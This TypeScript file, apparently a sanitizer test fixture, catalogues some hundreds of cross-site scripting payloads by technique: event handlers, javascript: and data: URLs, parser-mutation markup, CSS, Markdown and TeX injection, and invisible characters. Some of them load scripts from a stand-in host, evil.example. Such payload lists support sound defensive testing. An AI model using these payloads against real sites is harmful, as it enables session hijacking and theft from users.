// Known ways of smuggling script through a page, arranged by the trick each relies on. Every one calls `xss()`, sets
// `window.xss` or opens a dialog when it works.

export type Family = { trick: string; payloads: readonly string[] };

const CALL = 'xss()';
const ENTITIES = [...CALL].map((char) => `&#${char.charCodeAt(0)};`).join('');
const HEX = [...CALL].map((char) => `&#x${char.charCodeAt(0).toString(16)}`).join('');
const ESCAPED = 'eval("\\x78\\x73\\x73()")';

const SELF_FIRING = [
  ['img src=x', 'onerror'],
  ['img src=/icon.svg', 'onload'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['iframe src=/about', 'onload'],
  ['video src=x', 'onerror'],
  ['video><source src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['audio src=x', 'onloadstart'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onerror'],
  ['link rel=stylesheet href=/x', 'onerror'],
  ['script src=/x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a href=# autofocus', 'onfocus'],
  ['div tabindex=0 autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['style', 'onload'],
  ['frameset', 'onload'],
  ['p style="animation:x"', 'onanimationstart'],
  ['div style="transition:all 1s"', 'ontransitionend'],
  ['input type=image src=x', 'onerror'],
  ['table background=x', 'onload'],
  ['svg><animate begin=0s', 'onbegin'],
  ['svg><image href=x', 'onerror'],
  ['svg><set attributeName=x', 'onbegin'],
  ['math><maction', 'onclick'],
  ['dialog open', 'onclose'],
  ['div popover', 'onbeforetoggle'],
] as const;

const SCHEMES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `java\nscript:${CALL}`,
  ` \u0001javascript:${CALL}`,
  `javascript&colon;${CALL}`,
  `javascript&#58;${CALL}`,
  `&#106;avascript:${CALL}`,
  `&#x6A&#x61&#x76&#x61script:${CALL}`,
  `java&Tab;script:${CALL}`,
  `java&NewLine;script:${CALL}`,
  `javascript://%0a${CALL}`,
  `javascript:/*--></title></style></textarea></script><svg onload=${CALL}>*/${CALL}`,
  `jav\u0000ascript:${CALL}`,
  `vbscript:${CALL}`,
  `livescript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>`,
  `view-source:javascript:${CALL}`,
  `feed:javascript:${CALL}`,
  `blob:${CALL}`,
  `filesystem:${CALL}`,
  `//evil.example/x.js`,
  `/\\evil.example`,
] as const;

const bySelf: Family = {
  trick: 'an element that fires by itself',
  payloads: SELF_FIRING.map(([tag, event]) => `<${tag} ${event}=${CALL}>`),
};

const quoting: Family = {
  trick: 'other ways of writing an attribute',
  payloads: [
    ...['"', "'", '`', ''].map((quote) => `<img src=x onerror=${quote}${CALL}${quote}>`),
    ...['/', '\n', '\t', '\f', '\r', '/ /'].map((gap) => `<img${gap}src=x${gap}onerror=${CALL}>`),
    ...['ONERROR', 'oNeRrOr', 'onerror ', 'onerror\t', '\u0000onerror'].map((name) => `<img src=x ${name}=${CALL}>`),
    ...[ENTITIES, HEX, ESCAPED, 'xss`1`', 'window["xs"+"s"]()', 'top[/xs/.source+/s/.source]()'].map(
      (code) => `<img src=x onerror=${code}>`,
    ),
    `<img src="x"onerror="${CALL}">`,
    `<img src=x:x onerror=${CALL}//`,
    `<img """><script>${CALL}</script>">`,
    `<svg/onload=${CALL}`,
    `<svg onload=${CALL}//<svg`,
    `<<img src=x onerror=${CALL}>`,
    `<im<script></script>g src=x onerror=${CALL}>`,
  ],
};

const scripts: Family = {
  trick: 'script elements',
  payloads: [
    `<script>${CALL}</script>`,
    `<SCRIPT>${CALL}</SCRIPT>`,
    `<script >${CALL}</script >`,
    `<script/x>${CALL}</script>`,
    `<script\n>${CALL}</script\n>`,
    `<script>${CALL}`,
    `<script>${CALL}//`,
    `<script src=data:,${CALL}></script>`,
    `<script src=//evil.example/x.js></script>`,
    `<script type=module>${CALL}</script>`,
    `<script type=text/javascript>${CALL}</script>`,
    `<svg><script>${CALL}</script></svg>`,
    `<svg><script href=data:,${CALL} /></svg>`,
    `<svg><script>&#120;ss()</script></svg>`,
    `<math><script>${CALL}</script></math>`,
    `<scr<script>ipt>${CALL}</scr</script>ipt>`,
    `<script><!--\n${CALL}\n--></script>`,
    `<noscript><p title="</noscript><script>${CALL}</script>">`,
    `</script><script>${CALL}</script>`,
    `\u003cscript\u003e${CALL}\u003c/script\u003e`,
    `%3Cscript%3E${CALL}%3C/script%3E`,
    `&lt;script&gt;${CALL}&lt;/script&gt;`,
    `＜script＞${CALL}＜/script＞`,
    `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  ],
};

const breakingOut: Family = {
  trick: 'breaking out of what stands around',
  payloads: [
    '"',
    "'",
    '`',
    '">',
    "'>",
    '-->',
    '*/',
    ']]>',
    '</title>',
    '</textarea>',
    '</style>',
    '</template>',
    '</noscript>',
  ]
    .map((close) => `${close}<img src=x onerror=${CALL}>`)
    .concat([
      `" autofocus onfocus=${CALL} x="`,
      `' autofocus onfocus=${CALL} x='`,
      `" style="animation:x" onanimationstart="${CALL}`,
      `</script></title></textarea></style></noscript><svg onload=${CALL}>`,
      `--><!--><svg onload=${CALL}>`,
      `<!--<img src="--><img src=x onerror=${CALL}//">`,
      `<![CDATA[<img src=x onerror=${CALL}>]]>`,
      `<?xml version="1.0"?><img src=x onerror=${CALL}>`,
      `<comment><img src="</comment><img src=x onerror=${CALL}//">`,
      `"; ${CALL}; //`,
      `'; ${CALL}; //`,
      `\${${CALL}}`,
      `{{constructor.constructor('${CALL}')()}}`,
      `\\"; ${CALL}; //`,
      `</script><script>${CALL}//`,
      `{"@context":"</script><script>${CALL}</script>"}`,
      `\u2028${CALL}\u2029`,
    ]),
};

const addresses: Family = {
  trick: 'addresses that are code',
  payloads: SCHEMES.flatMap((scheme) => [`<a href="${scheme}">x</a>`, `[x](<${scheme}>)`]).concat([
    ...SCHEMES.slice(0, 4).map((scheme) => `![x](${scheme})`),
    ...SCHEMES.slice(0, 4).map((scheme) => `<${scheme}>`),
    ...SCHEMES.slice(0, 4).map((scheme) => `[x][1]\n\n[1]: ${scheme}`),
    ...SCHEMES.slice(0, 4).map((scheme) => `\\href{${scheme}}{x} \\url{${scheme}}`),
    ...SCHEMES.slice(0, 2).map((scheme) => `<form action="${scheme}"><button>x</button></form>`),
    ...SCHEMES.slice(0, 2).map((scheme) => `<iframe src="${scheme}"></iframe>`),
    ...SCHEMES.slice(0, 2).map((scheme) => `<object data="${scheme}"></object>`),
    ...SCHEMES.slice(0, 2).map((scheme) => `<embed src="${scheme}">`),
    ...SCHEMES.slice(0, 2).map((scheme) => `<svg><a xlink:href="${scheme}"><text y="20">x</text></a></svg>`),
    ...SCHEMES.slice(0, 2).map((scheme) => `<math><mi xlink:href="${scheme}">x</mi></math>`),
    ...SCHEMES.slice(0, 2).map((scheme) => `<meta http-equiv="refresh" content="0;url=${scheme}">`),
    ...SCHEMES.slice(0, 2).map((scheme) => `<base href="${scheme}//">`),
    `<button formaction="javascript:${CALL}">x</button>`,
    `<isindex action="javascript:${CALL}" type=submit>`,
    `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
    `<iframe srcdoc="&lt;img src=x onerror=parent.${CALL}&gt;"></iframe>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${CALL}'/></svg>#x"/></svg>`,
    `<svg><animate xlink:href=#x attributeName=href values=javascript:${CALL} /><a id=x><text y=20>x</text></a></svg>`,
    `<a href="https://evil.example/" target=_blank onclick=${CALL}>x</a>`,
    `<a href="https://evil.example/" ping="javascript:${CALL}">x</a>`,
    `https://evil.example/"onmouseover="${CALL}`,
    `https://evil.example/'onmouseover='${CALL}`,
    `https://evil.example/<img/src=x/onerror=${CALL}>`,
    `http://evil.example/\u202egpj.exe`,
    `@ada"onmouseover="${CALL}`,
  ]),
};

const mutation: Family = {
  trick: 'markup that changes when it is read a second time',
  payloads: [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
    `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
    `<noscript><style></noscript><img src=x onerror=${CALL}>`,
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${CALL}></style></annotation-xml></math>`,
    `<svg><foreignObject><img src=x onerror=${CALL}></foreignObject></svg>`,
    `<svg><desc><noscript><img title="</noscript><img src=x onerror=${CALL}>"></desc></svg>`,
    `<template><img src=x onerror=${CALL}></template>`,
    `<xmp><p title="</xmp><img src=x onerror=${CALL}>">`,
    `<listing>&lt;img src=x onerror=${CALL}&gt;</listing>`,
    `<plaintext><img src=x onerror=${CALL}>`,
    `<noembed><img title="</noembed><img src=x onerror=${CALL}>"></noembed>`,
    `<select><template><img src=x onerror=${CALL}></template></select>`,
    `<table><td><form><td><img src=x onerror=${CALL}>`,
    `<p><svg><p><style><g title="</style><img src=x onerror=${CALL}>">`,
    `<img src="x\`>\`<img src=x onerror=${CALL}>">`,
  ],
};

const styles: Family = {
  trick: 'style sheets',
  payloads: [
    `<style>*{background:url(javascript:${CALL})}</style>`,
    `<style>@import "javascript:${CALL}";</style>`,
    `<style>@import "//evil.example/x.css";</style>`,
    `<div style="background:url(javascript:${CALL})">x</div>`,
    `<div style="width:expression(${CALL})">x</div>`,
    `<div style="-moz-binding:url(//evil.example/x.xml#x)">x</div>`,
    `<div style="behavior:url(x.htc)">x</div>`,
    `<div style="position:fixed;inset:0;z-index:9999">x</div>`,
    `<link rel=stylesheet href="javascript:${CALL}">`,
    `<link rel=import href="data:text/html,<script>${CALL}</script>">`,
    `<xss style="xss:expression(${CALL})">`,
  ],
};

const markdown: Family = {
  trick: 'what Markdown makes of it',
  payloads: [
    `[x](https://evil.example/ "onmouseover=${CALL} x")`,
    `[x](https://evil.example/ 'a" onmouseover="${CALL}')`,
    `![x](https://evil.example/x.png "a" onerror="${CALL}")`,
    `![" onerror="${CALL}](x)`,
    `![x"onerror="${CALL}"](/icon.svg)`,
    `[<img src=x onerror=${CALL}>](https://evil.example/)`,
    `[x]: https://evil.example/ "<img src=x onerror=${CALL}>"\n\n[x]`,
    `\`<img src=x onerror=${CALL}>\``,
    `\`\`\`"><img src=x onerror=${CALL}>\nx\n\`\`\``,
    `\`\`\`html onload=${CALL}\n<script>${CALL}</script>\n\`\`\``,
    `    <script>${CALL}</script>`,
    `> <script>${CALL}</script>`,
    `- <img src=x onerror=${CALL}>`,
    `# <img src=x onerror=${CALL}>`,
    `| <img src=x onerror=${CALL}> |\n|---|\n| <script>${CALL}</script> |`,
    `<details><summary>x</summary><img src=x onerror=${CALL}></details>`,
    `\\<script>${CALL}\\</script>`,
    `&#60;script&#62;${CALL}&#60;/script&#62;`,
    `<https://evil.example/"onmouseover="${CALL}>`,
    `**<img src=x onerror=${CALL}>**`,
    `[x](javascript:${CALL}\\)`,
    `&#xe000;0&#xe001;<img src=x onerror=${CALL}>`,
  ],
};

const math: Family = {
  trick: 'what TeX makes of it',
  payloads: [
    `$\\href{javascript:${CALL}}{x}$`,
    `$\\url{javascript:${CALL}}$`,
    `$\\htmlData{x=y" onmouseover="${CALL}}{x}$`,
    `$\\htmlClass{x" onmouseover="${CALL}}{x}$`,
    `$\\htmlId{x" onload="${CALL}}{x}$`,
    `$\\htmlStyle{background:url(javascript:${CALL})}{x}$`,
    `$\\includegraphics[alt="x" onerror="${CALL}"]{javascript:${CALL}}$`,
    `$\\text{<img src=x onerror=${CALL}>}$`,
    `$\\text{</annotation><img src=x onerror=${CALL}>}$`,
    `$</annotation></semantics></math><img src=x onerror=${CALL}>$`,
    `$x<img src=x onerror=${CALL}>$`,
    `$$<script>${CALL}</script>$$`,
    `$\\unknown{<img src=x onerror=${CALL}>}$`,
    `$\\color{red" onmouseover="${CALL}}{x}$`,
    `$\\textcolor{#fff;background:url(javascript:${CALL})}{x}$`,
    `$\\rule{1em;x:expression(${CALL})}{1em}$`,
    `\\begin{equation}<img src=x onerror=${CALL}>\\end{equation}`,
    `\\emph{<img src=x onerror=${CALL}>}`,
    `\\textbf{"><svg onload=${CALL}>}`,
    `\\footnote{<script>${CALL}</script>}`,
    `$\\def\\x{<img src=x onerror=${CALL}>}\\x$`,
    `$\\verb|<img src=x onerror=${CALL}>|$`,
  ],
};

const hidden: Family = {
  trick: 'characters that are not seen',
  payloads: [
    `<\u0000script>${CALL}</script>`,
    `<scr\u0000ipt>${CALL}</scr\u0000ipt>`,
    `<img src=x on\u200berror=${CALL}>`,
    `<img src=x \u202eonerror=${CALL}>`,
    `\ufeff<script>${CALL}</script>`,
    `<img\u00a0src=x\u00a0onerror=${CALL}>`,
    `<img\u3000src=x\u3000onerror=${CALL}>`,
    `<img src=x onerror\u2003=${CALL}>`,
    `\ud83d<script>${CALL}</script>`,
    `<script\u2028>${CALL}</script>`,
    `\u0308<img src=x onerror=${CALL}>`,
    `<ſcript>${CALL}</ſcript>`,
    `<img src=x oneſrror=${CALL}>`,
    `<İmg src=x onerror=${CALL}>`,
    `\u001b[31m<script>${CALL}</script>`,
  ],
};

export const FAMILIES: readonly Family[] = [
  ...[bySelf, quoting, scripts, breakingOut, addresses],
  ...[mutation, styles, markdown, math, hidden],
];

/** All of them. */
export const XSS_PAYLOADS: readonly string[] = [...new Set(FAMILIES.flatMap(({ payloads }) => payloads))];
